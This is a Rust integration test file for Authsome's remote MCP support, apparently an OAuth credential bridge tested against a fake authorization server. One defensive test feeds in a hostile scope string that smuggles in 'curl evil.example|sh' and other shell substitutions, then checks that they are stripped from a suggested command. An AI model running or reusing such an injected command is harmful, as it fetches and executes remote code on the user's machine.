//! Remote MCP servers through Authsome, against the fake authorization
//! server and its MCP endpoint (`{base}/mcp`, Streamable HTTP, RFC 9728
//! metadata, an audience check on every token): `mcp add` discovers it,
//! `login` sends the RFC 8707 resource and checks the RFC 9207 issuer, and
//! `mcp connect` bridges a stdio MCP client to it with the daemon's tokens.

use std::io::{BufRead, BufReader, Write};
use std::process::{Child, ChildStdin, Stdio};
use std::sync::mpsc::{channel, Receiver};
use std::time::{Duration, Instant};

use authsome_tests::fake_oauth::FakeOAuth;
use authsome_tests::TestHome;
use serde_json::{json, Value};

/// A home whose browser follows the authorization redirect, and a fake
/// server that issues public DCR clients and sends `iss`.
fn setup() -> (TestHome, FakeOAuth) {
    let fake = FakeOAuth::start();
    {
        let mut st = fake.state();
        st.switches.client_secret = None;
        st.switches.iss = Some(format!("{}/as", fake.base));
    }
    let t = TestHome::new();
    let b = authsome_tests::browser::follower(&t);
    let t = t.env("BROWSER", b.to_str().unwrap());
    (t, fake)
}

/// `mcp add fakemcp` for the fake server.
fn add(t: &TestHome, fake: &FakeOAuth) {
    t.run(
        &["mcp", "add", "fakemcp", &format!("{}/mcp", fake.base)],
        None,
    )
    .ok();
}

fn add_and_login(t: &TestHome, fake: &FakeOAuth) {
    add(t, fake);
    let out = t.run(&["login", "fakemcp"], None).ok();
    assert!(
        out.stdout
            .contains("Successfully logged in to fakemcp (default)"),
        "{out:?}"
    );
}

/// A stdio MCP client talking to `authsome mcp connect`.
struct Client {
    child: Child,
    stdin: Option<ChildStdin>,
    lines: Receiver<Value>,
    seen: Vec<Value>,
    /// Everything the bridge wrote on stdout, JSON or not.
    stdout: std::thread::JoinHandle<String>,
}

impl Client {
    fn start(t: &TestHome, name: &str) -> Client {
        let mut child = t
            .cmd(&["mcp", "connect", name])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let stdout = child.stdout.take().unwrap();
        let (tx, lines) = channel();
        let stdout = std::thread::spawn(move || {
            let mut all = String::new();
            for line in BufReader::new(stdout).lines() {
                let line = line.unwrap();
                all.push_str(&line);
                all.push('\n');
                if let Ok(v) = serde_json::from_str::<Value>(&line) {
                    let _ = tx.send(v);
                }
            }
            all
        });
        Client {
            stdin: child.stdin.take(),
            child,
            lines,
            seen: Vec::new(),
            stdout,
        }
    }

    fn send(&mut self, msg: Value) {
        let stdin = self.stdin.as_mut().unwrap();
        writeln!(stdin, "{msg}").unwrap();
        stdin.flush().unwrap();
    }

    /// The answer with `id`, within 20 s.
    fn answer(&mut self, id: i64) -> Value {
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            if let Some(v) = self.seen.iter().find(|v| v["id"] == id) {
                return v.clone();
            }
            let left = deadline.saturating_duration_since(Instant::now());
            match self.lines.recv_timeout(left) {
                Ok(v) => self.seen.push(v),
                Err(_) => panic!("no answer to {id}; saw {:?}", self.seen),
            }
        }
    }

    fn request(&mut self, id: i64, method: &str, params: Value) -> Value {
        self.send(json!({"jsonrpc": "2.0", "id": id, "method": method, "params": params}));
        self.answer(id)
    }

    /// The answer to `initialize` (id 1), whatever it is.
    fn try_initialize(&mut self) -> Value {
        self.request(
            1,
            "initialize",
            json!({"protocolVersion": "2025-06-18", "capabilities": {},
                   "clientInfo": {"name": "test-client", "version": "1"}}),
        )
    }

    fn initialize(&mut self) {
        let init = self.try_initialize();
        assert_eq!(init["result"]["serverInfo"]["name"], "fake-mcp", "{init}");
        self.send(json!({"jsonrpc": "2.0", "method": "notifications/initialized"}));
    }

    fn echo(&mut self, id: i64, text: &str) -> Value {
        self.request(
            id,
            "tools/call",
            json!({"name": "echo", "arguments": {"text": text}}),
        )
    }

    /// Closes stdin and waits: the exit status, and stderr followed by all
    /// of stdout (so a leak check covers both). Stdout must hold JSON-RPC
    /// messages and nothing else.
    fn finish(mut self) -> (bool, String) {
        drop(self.stdin.take());
        let out = self.child.wait_with_output().unwrap();
        let stdout = self.stdout.join().unwrap();
        for line in stdout.lines() {
            let v: Value = serde_json::from_str(line)
                .unwrap_or_else(|_| panic!("stdout carried something not JSON-RPC: {line}"));
            assert_eq!(v["jsonrpc"], "2.0", "stdout carried {line}");
        }
        (
            out.status.success(),
            format!("{}\n{stdout}", String::from_utf8_lossy(&out.stderr)),
        )
    }
}

#[test]
fn mcp_add_discovers_the_server_and_the_bridge_calls_its_tools() {
    let (t, fake) = setup();
    let url = format!("{}/mcp", fake.base);
    let out = t.run(&["mcp", "add", "fakemcp", &url], None).ok();
    for part in [
        format!("resource:  {url}"),
        format!("issuer:    {}/as", fake.base),
        "scopes:    read write".to_string(),
        format!(
            "dynamic client registration (RFC 7591) at {}/register",
            fake.base
        ),
        "iss check: every authorization response".to_string(),
    ] {
        assert!(
            out.stdout.contains(&part),
            "{part} missing:\n{}",
            out.stdout
        );
    }
    // 401 with resource_metadata, then the document it names.
    assert_eq!(fake.state().mcp.unauthorized, 1);
    assert!(fake.state().protected_resource_requests >= 1);
    let login = t.run(&["login", "fakemcp"], None).ok();
    assert!(login
        .stdout
        .contains("Successfully logged in to fakemcp (default)"));
    {
        let st = fake.state();
        assert_eq!(st.registrations.len(), 1, "one dynamic registration");
        assert_eq!(
            st.authorize_requests[0].get("resource"),
            Some(&url),
            "RFC 8707 resource in the authorization request"
        );
        assert_eq!(
            st.token_resource.get(&st.issued[0]),
            Some(&Some(url.clone())),
            "RFC 8707 resource in the token request"
        );
    }
    let list = t.run(&["mcp", "list"], None).ok().stdout;
    assert!(
        list.contains("fakemcp") && list.contains(&url) && list.contains("connected"),
        "{list}"
    );

    let mut c = Client::start(&t, "fakemcp");
    c.initialize();
    let tools = c.request(2, "tools/list", json!({}));
    assert_eq!(tools["result"]["tools"][0]["name"], "echo", "{tools}");
    fake.state().mcp.sse = true;
    let echoed = c.echo(3, "hi");
    assert_eq!(
        echoed["result"]["content"][0]["text"], "echo: hi",
        "{echoed}"
    );
    // The SSE answer's progress notification came through too, and the
    // server's own stream (GET) was opened.
    let denied = c.request(4, "tools/call", json!({"name": "admin", "arguments": {}}));
    let message = denied["error"]["message"].as_str().unwrap_or_default();
    assert!(message.contains("needs scope \"admin\""), "{denied}");
    assert_eq!(
        denied["error"]["data"]["run"],
        "authsome login fakemcp --force --scopes admin"
    );
    std::thread::sleep(Duration::from_millis(300));
    while let Ok(v) = c.lines.try_recv() {
        c.seen.push(v);
    }
    assert!(
        c.seen
            .iter()
            .any(|v| v["method"] == "notifications/progress"),
        "{:?}",
        c.seen
    );
    assert!(
        c.seen
            .iter()
            .any(|v| v["method"] == "notifications/tools/list_changed"),
        "{:?}",
        c.seen
    );
    let (ok, stderr) = c.finish();
    assert!(ok, "{stderr}");
    let st = fake.state();
    assert_eq!(
        st.mcp.deleted,
        vec!["session-1".to_string()],
        "DELETE on exit"
    );
    assert!(st.mcp.protocol_versions.iter().all(|v| v == "2025-06-18"));
    assert!(!st.mcp.protocol_versions.is_empty());
    assert_eq!(st.mcp.get_streams, 1);
    // No token on the bridge's stderr.
    assert!(!stderr.contains(&st.issued[0]), "{stderr}");
}

#[test]
fn an_authorization_response_from_another_issuer_is_never_redeemed() {
    let (t, fake) = setup();
    add(&t, &fake);
    fake.state().switches.iss = Some("https://mix-up.example".into());
    let out = t.run(&["login", "fakemcp"], None).code(1);
    assert!(out.stderr.contains("RFC 9207"), "{}", out.stderr);
    assert_eq!(fake.state().token_calls, 0, "the code was redeemed");
    // An authorization server that promises `iss` and sends none: the same.
    fake.state().switches.iss = None;
    let out = t.run(&["login", "fakemcp"], None).code(1);
    assert!(out.stderr.contains("carries no iss"), "{}", out.stderr);
    assert_eq!(fake.state().token_calls, 0);
}

#[test]
fn three_bridges_across_a_token_expiry_share_one_refresh_and_keep_their_sessions() {
    let (t, fake) = setup();
    {
        let mut st = fake.state();
        st.switches.expires_in = Some(4);
        st.switches.refresh_expires_in = Some(3600);
    }
    let started = Instant::now();
    add_and_login(&t, &fake);
    let mut a = Client::start(&t, "fakemcp");
    a.initialize();
    // The first token is past its expiry at the server.
    std::thread::sleep(Duration::from_secs(5).saturating_sub(started.elapsed()));
    let mut b = Client::start(&t, "fakemcp");
    let mut c = Client::start(&t, "fakemcp");
    let (ra, rb, rc) = std::thread::scope(|s| {
        let ha = s.spawn(|| a.echo(7, "a"));
        let hb = s.spawn(|| {
            b.initialize();
            b.echo(7, "b")
        });
        let hc = s.spawn(|| {
            c.initialize();
            c.echo(7, "c")
        });
        (ha.join().unwrap(), hb.join().unwrap(), hc.join().unwrap())
    });
    for (r, text) in [(&ra, "echo: a"), (&rb, "echo: b"), (&rc, "echo: c")] {
        assert_eq!(r["result"]["content"][0]["text"], text, "{r}");
    }
    let st = fake.state();
    assert_eq!(st.refresh_calls, 1, "one refresh for the three bridges");
    let inits = st
        .mcp
        .calls
        .iter()
        .filter(|(m, _)| m == "initialize")
        .count();
    assert_eq!(
        inits, 3,
        "the first bridge kept its session across the expiry"
    );
}

#[test]
fn a_revoked_grant_becomes_a_json_rpc_error_and_an_invalid_connection() {
    let (t, fake) = setup();
    fake.state().switches.expires_in = Some(2);
    add_and_login(&t, &fake);
    fake.state().switches.refresh_error = Some("invalid_grant".into());
    std::thread::sleep(Duration::from_millis(2500));
    let mut c = Client::start(&t, "fakemcp");
    let answer = c.try_initialize();
    assert_eq!(answer["error"]["code"], -32001, "{answer}");
    assert_eq!(
        answer["error"]["data"]["run"],
        "authsome login fakemcp --force"
    );
    assert_eq!(t.field("fakemcp", "status"), "invalid");
    let (ok, _) = c.finish();
    assert!(ok);
}

#[test]
fn a_token_without_the_resource_is_refused_by_the_server() {
    // The same server recorded by hand, without `resource`: the token the
    // login gets is not meant for it, and the server says so.
    let (t, fake) = setup();
    fake.state().switches.client_secret = Some("fake-client-secret".into());
    let mut def = fake.provider("plainmcp", "pkce");
    def["mcp_url"] = format!("{}/mcp", fake.base).into();
    let file = t.dir().join("plainmcp.json");
    std::fs::write(&file, def.to_string()).unwrap();
    t.run(&["register", file.to_str().unwrap()], None).ok();
    fake.state().switches.iss = None;
    t.run(
        &["login", "plainmcp", "--client-id", "c", "--stdin"],
        Some("fake-client-secret"),
    )
    .ok();
    let mut c = Client::start(&t, "plainmcp");
    let answer = c.try_initialize();
    // Refused, refreshed, refused again: the error names what to run.
    assert!(
        answer["error"]["message"]
            .as_str()
            .unwrap_or_default()
            .contains("refused a fresh token (401)"),
        "{answer}"
    );
    assert_eq!(fake.state().refresh_calls, 1);
    assert!(fake.state().mcp.unauthorized >= 1);
    c.finish();
}

#[test]
fn an_api_key_mcp_provider_connects_with_its_key() {
    // As the bundled linear-mcp: an API key in `Authorization: Bearer`.
    let (t, fake) = setup();
    let key = "lin_api_fakeMcpKey123";
    fake.state().mcp.api_keys.push(key.into());
    let def = json!({
        "name": "keymcp", "display_name": "Key MCP", "auth_type": "api_key", "flow": "api_key",
        "host_url": fake.base.trim_start_matches("http://"),
        "api_key": {"header_name": "Authorization", "header_prefix": "Bearer"},
        "export": {},
        "mcp_url": format!("{}/mcp", fake.base),
    });
    let file = t.dir().join("keymcp.json");
    std::fs::write(&file, def.to_string()).unwrap();
    t.run(&["register", file.to_str().unwrap()], None).ok();
    t.login_key("keymcp", key);
    let mut c = Client::start(&t, "keymcp");
    c.initialize();
    assert_eq!(c.echo(2, "k")["result"]["content"][0]["text"], "echo: k");
    let (ok, stderr) = c.finish();
    assert!(ok && !stderr.contains(key), "{stderr}");
    assert!(fake.state().mcp.calls.iter().all(|(_, tok)| tok == key));
}

#[test]
fn mcp_config_prints_the_bridge_for_each_host() {
    let (t, fake) = setup();
    add(&t, &fake);
    let bin = authsome_tests::authsome_bin().display().to_string();
    let desktop = t.run(&["mcp", "config", "fakemcp"], None).ok().stdout;
    let json_part: Value = serde_json::from_str(&desktop[desktop.find('{').unwrap()..]).unwrap();
    assert_eq!(
        json_part["mcpServers"]["fakemcp"],
        json!({"command": bin, "args": ["mcp", "connect", "fakemcp"]})
    );
    let code = t
        .run(&["mcp", "config", "fakemcp", "--for", "claude-code"], None)
        .ok()
        .stdout;
    assert!(
        code.contains(&format!(
            "claude mcp add fakemcp -- {bin} mcp connect fakemcp"
        )),
        "{code}"
    );
    let codex = t
        .run(&["mcp", "config", "fakemcp", "--for", "codex"], None)
        .ok()
        .stdout;
    assert!(
        codex.contains("[mcp_servers.fakemcp]")
            && codex.contains("args = [\"mcp\", \"connect\", \"fakemcp\"]"),
        "{codex}"
    );
    let cursor = t
        .run(&["mcp", "config", "fakemcp", "--for", "cursor"], None)
        .ok()
        .stdout;
    assert!(cursor.contains("~/.cursor/mcp.json"), "{cursor}");
    // A provider without a server is told so.
    let out = t.run(&["mcp", "config", "openai"], None);
    assert_ne!(out.code, 0);
    assert!(out.stderr.contains("no MCP server"), "{}", out.stderr);
}

#[test]
fn a_token_the_server_revoked_is_replaced_once_for_every_bridge() {
    // The daemon thinks the token good for an hour; the server has revoked
    // it. Each bridge meets a 401, the daemon refreshes once for all of
    // them, and every request goes through on the retry.
    let (t, fake) = setup();
    add_and_login(&t, &fake);
    {
        let mut st = fake.state();
        let first = st.issued[0].clone();
        st.revoked.push(("access_token".into(), first));
    }
    let mut clients: Vec<Client> = (0..3).map(|_| Client::start(&t, "fakemcp")).collect();
    std::thread::scope(|s| {
        for c in clients.iter_mut() {
            s.spawn(move || c.initialize());
        }
    });
    let st = fake.state();
    assert_eq!(st.refresh_calls, 1, "one refresh for the three refusals");
    assert!(st.mcp.unauthorized >= 1);
    let inits = st
        .mcp
        .calls
        .iter()
        .filter(|(m, _)| m == "initialize")
        .count();
    assert_eq!(inits, 3);
}

#[test]
fn discovery_refuses_a_server_that_names_another_resource_or_asks_for_nothing() {
    let (t, fake) = setup();
    // The metadata the 401 names is for `{base}/mcp`, not this URL.
    let out = t.run(
        &[
            "mcp",
            "add",
            "other",
            &format!("{}/mcp?tenant=x", fake.base),
        ],
        None,
    );
    assert_ne!(out.code, 0);
    assert!(
        out.stderr.contains("names another resource"),
        "{}",
        out.stderr
    );
    // An endpoint that answers without asking for a token has nothing to log in to.
    let out = t.run(
        &["mcp", "add", "open", &format!("{}/register", fake.base)],
        None,
    );
    assert_ne!(out.code, 0);
    assert!(
        out.stderr.contains("does not ask for OAuth"),
        "{}",
        out.stderr
    );
    // Nothing was recorded.
    t.run(&["inspect", "other"], None).code(4);
    t.run(&["inspect", "open"], None).code(4);
}

#[test]
fn a_hostile_server_cannot_put_a_shell_command_in_the_hint() {
    // The hint in `error.data.run` is a command line a host may show or run:
    // the scope a server names goes into it with scope characters only.
    let (t, fake) = setup();
    add_and_login(&t, &fake);
    fake.state().mcp.admin_scope = "admin\"; curl evil.example|sh; $(id) `id` ~".into();
    let mut c = Client::start(&t, "fakemcp");
    c.initialize();
    let denied = c.request(2, "tools/call", json!({"name": "admin", "arguments": {}}));
    let run = denied["error"]["data"]["run"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(
        run.starts_with("authsome login fakemcp --force --scopes admin"),
        "{denied}"
    );
    for bad in [";", "|", "$", "`", "~", "\"", "("] {
        assert!(!run.contains(bad), "{bad:?} reached the hint: {run}");
    }
    c.finish();
}

#[test]
fn a_provider_file_cannot_send_its_credential_to_another_host_through_mcp_url() {
    let (t, fake) = setup();
    let mut def = fake.provider("routed", "pkce");
    def["mcp_url"] = "https://collector.example/mcp".into();
    let file = t.dir().join("routed.json");
    std::fs::write(&file, def.to_string()).unwrap();
    let out = t.run(&["register", file.to_str().unwrap()], None);
    assert_ne!(out.code, 0);
    assert!(
        out.stderr.contains("is not on a host of host_url"),
        "{}",
        out.stderr
    );
}

/// `mcp add --force` replaces the server for every profile (the definition
/// is shared): no profile keeps a token the new server would be sent.
#[test]
fn replacing_a_server_forgets_its_tokens_in_every_profile() {
    let (t, fake) = setup();
    add_and_login(&t, &fake);
    t.run(&["profile", "create", "work"], None).ok();
    t.run(&["--profile", "work", "login", "fakemcp"], None).ok();
    t.run(&["--profile", "work", "get", "fakemcp"], None).ok();
    t.run(
        &[
            "mcp",
            "add",
            "fakemcp",
            &format!("{}/mcp", fake.base),
            "--force",
        ],
        None,
    )
    .ok();
    t.run(&["get", "fakemcp"], None).code(3);
    t.run(&["--profile", "work", "get", "fakemcp"], None)
        .code(3);
}
